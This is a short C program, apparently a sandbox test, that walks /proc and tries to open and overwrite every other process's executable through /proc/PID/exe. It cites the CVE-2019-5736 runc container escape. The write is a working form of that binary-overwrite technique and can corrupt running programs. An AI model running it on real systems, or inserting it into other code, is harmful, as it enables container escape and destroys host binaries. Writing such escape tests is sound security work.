/* SPDX-License-Identifier: Apache-2.0
 *
 * exe.c - write to the programs that run, above all to hutch's (as CVE-2019-5736 did with runc)
 *
 * Prints "PID RESULT" for /proc/PID/exe of every process but itself, opened for writing, and
 * written to.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(void)
{
	DIR *d = opendir("/proc");
	struct dirent *x;

	while (d && (x = readdir(d))) {
		char path[300];
		int fd;

		if (!isdigit((unsigned char)x->d_name[0]) || atoi(x->d_name) == getpid())
			continue;
		snprintf(path, sizeof(path), "/proc/%s/exe", x->d_name);
		fd = open(path, O_RDWR);
		printf("%s %s\n", x->d_name,
		       fd < 0 || write(fd, "#!/bin/sh\n", 10) < 0 ? strerrorname_np(errno) : "ok");
		if (fd >= 0)
			close(fd);
	}
	return 0;
}
